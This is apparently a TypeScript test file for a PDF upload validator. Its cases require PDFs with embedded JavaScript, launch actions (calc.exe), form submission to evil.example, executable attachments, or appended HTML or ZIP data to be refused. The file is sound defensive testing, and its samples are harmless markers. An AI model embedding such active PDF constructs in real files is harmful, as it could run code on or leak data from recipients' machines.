/** PDFs that contain more than pages, in each way that real files do: directly, by reference, in object streams. */
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import { mostPages, pdfFault } from "./pdf-check.ts";
import { smallPdf } from "./pdf-for-tests.ts";

async function made(change: (document: PDFDocument) => void | Promise<void>, useObjectStreams = true): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

/** Adds a dictionary to the file, referenced only by the catalog. */
const withObject = (entries: Record<string, string>) => (document: PDFDocument) => {
  const ref = document.context.register(document.context.obj(entries));
  document.catalog.set(PDFName.of("Held"), ref);
};

test.each([true, false])("a PDF of pages alone is accepted, with object streams: %s", async (useObjectStreams) => {
  expect(await pdfFault(await made(() => undefined, useObjectStreams))).toBeUndefined();
  expect(await pdfFault(smallPdf())).toBeUndefined();
});

describe("harmless PDF entries", () => {
  test.each([
    ["an opening page", "/OpenAction [3 0 R /Fit]"],
    ["a go-to-page action", "/OpenAction <</S /GoTo /D [3 0 R /Fit]>>"],
    ["a link to a URL", "/Held <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://bank.example)>>>>"],
  ])("a PDF with %s is accepted", async (_what, catalog) => {
    expect(await pdfFault(smallPdf({ catalog }))).toBeUndefined();
  });
});

describe("PDF entries that run, load or hide something", () => {
  test.each([
    ["a script that runs on opening", "/OpenAction <</S /JavaScript /JS (app.alert(1))>>"],
    ["a named script", "/Names <</JavaScript <</Names []>>>>"],
    ["an escaped name", "/Names <</J#61vaScript <</Names []>>>>"],
    ["a launch action", "/OpenAction <</S /Launch /F (calc.exe)>>"],
    ["automatic actions", "/AA <</WC 3 0 R>>"],
    ["an XFA form", "/AcroForm <</XFA []>>"],
    ["a submit-form action", "/Held <</S /SubmitForm /F (https://evil.example)>>"],
    ["an import-data action", "/Held <</S /ImportData /F (x)>>"],
    ["a link to another file", "/Held <</S /GoToR /F (other.pdf)>>"],
    ["a link to an embedded file", "/Held <</S /GoToE>>"],
    ["rich media", "/Held <</Subtype /RichMedia>>"],
    ["an open action that is not a destination", "/OpenAction 3 0 R"],
  ])("a PDF with %s is refused", async (_what, catalog) => {
    expect(await pdfFault(smallPdf({ catalog }))).toBe("FILE_ACTIVE");
  });

  test.each([
    ["a script", withObject({ S: "JavaScript" })],
    ["a launch action", withObject({ S: "Launch" })],
    ["an attachment", (document: PDFDocument) => document.attach(Buffer.from("MZ"), "a.exe")],
    [
      "a script in a string",
      (document: PDFDocument) => document.catalog.set(PDFName.of("JS"), PDFString.of("app.alert(1)")),
    ],
  ])("a PDF with %s inside an object stream is refused", async (_what, change) => {
    const bytes = await made(change);
    expect(bytes.includes("/JavaScript")).toBe(false);
    expect(await pdfFault(bytes)).toBe("FILE_ACTIVE");
  });
});

describe("files that are not entirely a PDF", () => {
  test.each([
    ["data before it", Buffer.concat([Buffer.from("<html>"), smallPdf()])],
    ["an archive after it", Buffer.concat([smallPdf(), Buffer.from("PK\u0003\u0004")])],
    ["an HTML page after it", Buffer.concat([smallPdf(), Buffer.from("<script>alert(1)</script>")])],
    ["no end marker", smallPdf().subarray(0, 200)],
    ["no pages", Buffer.from("%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")],
    ["nothing", Buffer.alloc(0)],
    ["noise", Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(5_000, 7), Buffer.from("%%EOF")])],
  ])("a PDF with %s is refused", async (_what, bytes) => {
    expect(await pdfFault(bytes)).toBe("FILE_INVALID");
  });
});

test("a PDF with a password is refused as FILE_LOCKED", async () => {
  expect(await pdfFault(smallPdf({ trailer: "/Encrypt 3 0 R" }))).toBe("FILE_LOCKED");
});

test("a PDF of ten pages is accepted, one of eleven is refused", async () => {
  const more = (pages: number) => made((document) => void Array.from({ length: pages - 1 }, () => document.addPage()));
  expect(await pdfFault(await more(mostPages))).toBeUndefined();
  expect(await pdfFault(await more(mostPages + 1))).toBe("FILE_TOO_MANY_PAGES");
});
